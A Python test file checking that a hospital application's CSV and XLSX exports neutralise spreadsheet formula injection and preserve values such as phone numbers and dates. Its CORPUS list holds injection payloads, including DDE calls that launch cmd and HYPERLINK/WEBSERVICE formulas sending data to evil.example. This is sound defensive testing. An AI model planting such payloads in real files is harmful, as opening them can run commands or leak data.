"""Whatever a record holds: in a file it is a text, never a formula, and it comes out as it went in."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree as ET

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from hospital.kit import phones, spreadsheets

from .files import rows_of, undone

# OWASP's marks, alone, in full width, behind white space, and what attackers wrote with them.
CORPUS = [
    "=", "+", "-", "@", "\t", "\r", "\0", "\n", "＝", "＋", "－", "＠",
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "\u200b=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Ana")', '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc")', '";=1+1', "'=1+1", "''=1+1", "-2+3+cmd|' /C calc'!A0", "#REF!", "#N/A",
]  # fmt: skip
STARTERS = tuple("=+-@\t\r\n\0＝＋－＠")


def made(form, lines, headings=("One",)):
    file = io.BytesIO()
    sheet = spreadsheets.opened(form, file, headings, title="List: a/b")
    sheet.write(lines)
    sheet.close()
    return file.getvalue()


def raw(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", CORPUS)
def test_no_text_is_a_formula_in_csv(text):
    _, [cell] = raw(made("csv", [[text]]))
    assert not cell.strip(" \u200b").startswith(STARTERS)
    assert undone(cell) == text


def test_the_marks_are_dangerous_when_nothing_is_done():
    """The control: without the apostrophe every mark stands first in its cell."""
    for mark in STARTERS:
        [[cell]] = csv.reader(io.StringIO(f'"{mark}1"', newline=""))
        assert cell.startswith(STARTERS)


def formulas_and_errors(content):
    """Cells of a workbook that are calculated, or of a type of their own."""
    sheet = ET.fromstring(zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml"))  # noqa: S314
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    cells = list(sheet.iter(f"{space}c"))
    assert cells
    return [
        each.get("r")
        for each in cells
        if each.find(f"{space}f") is not None or each.get("t") not in {"inlineStr", "s", "n", None}
    ]


@pytest.mark.parametrize("text", CORPUS)
def test_no_text_is_a_formula_in_xlsx(text):
    content = made("xlsx", [[text]], headings=[text])
    assert formulas_and_errors(content) == []
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type == "s"
    # CR is a line end to XML, NUL nothing it can hold.
    assert (cell.value or "").replace("_x000D_", "\r").replace("\r", "\n") == text.replace(
        "\0", "\ufffd"
    ).replace("\r", "\n")


def test_a_workbook_of_the_library_alone_would_hold_formulas():
    """The control: the same corpus without our care."""
    from openpyxl import Workbook

    book, file = Workbook(write_only=True), io.BytesIO()
    sheet = book.create_sheet()
    for text in ("=1+1", "#REF!"):
        sheet.append([text])
    book.save(file)
    assert formulas_and_errors(file.getvalue()) == ["A1", "A2"]


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), min_size=1, max_size=5))
def test_csv_comes_out_as_it_went_in(lines):
    assert rows_of(made("csv", lines, headings=["a", "b"]), "csv")[1:] == lines


def test_a_csv_file_is_utf_8_with_its_mark_and_ends_lines_as_the_standard_says():
    content = made("csv", [["Müller, Ana"], ['say "ah"'], ["two\nlines"]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == (
        'One\r\n"Müller, Ana"\r\n"say ""ah"""\r\n"two\nlines"\r\n'
    )


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_phone_number_survives_and_can_be_typed_in_again_as_it_stands(form):
    content = made(form, [[phones.spaced("+4930123456")]])
    shown = raw(content)[1][0] if form == "csv" else rows_of(content, form)[1][0]
    assert shown == {"csv": "'+49 30 123456", "xlsx": "+49 30 123456"}[form]
    assert phones.e164(shown) == "+4930123456"


def test_days_moments_and_numbers_are_what_a_spreadsheet_sorts_and_sums():
    moment = dt.datetime(2026, 3, 14, 8, 5, 9, 999, tzinfo=dt.UTC)
    line = [dt.date(1988, 3, 14), moment, 12, Decimal("-3.50"), None]
    with timezone.override("Europe/Berlin"):
        written = made("csv", [line], headings="abcde")
        book = made("xlsx", [line], headings="abcde")
    assert raw(written)[1] == ["1988-03-14", "2026-03-14 09:05:09", "12", "-3.50", ""]
    row = [cell.value for cell in load_workbook(io.BytesIO(book)).active[2]]
    assert row == [dt.datetime(1988, 3, 14), dt.datetime(2026, 3, 14, 9, 5, 9), 12, -3.5, None]
